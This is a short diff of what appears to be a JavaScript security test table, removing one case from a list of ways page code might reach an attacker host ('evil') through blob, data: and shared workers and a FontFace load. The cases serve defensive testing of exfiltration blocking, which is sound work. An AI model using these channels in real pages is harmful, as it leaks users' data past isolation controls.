@@ -22,7 +22,6 @@ export default {
     void new Worker(blob(`new FontFace("f", "url(${evil}/f)").load()`, "text/javascript")),
   "a shared blob: worker": ({ blob, sends }) => void new SharedWorker(blob(sends, "text/javascript")),
   "a data: worker": ({ sends }) => void new Worker(`data:text/javascript,${encodeURIComponent(sends)}`),
-  "a data: shared worker": ({ sends }) => void new SharedWorker(`data:text/javascript,${encodeURIComponent(sends)}`),
   "a worker whose URL changes": ({ own, blob, sends }) => {
     let reads = 0;
     const bad = blob(sends, "text/javascript");
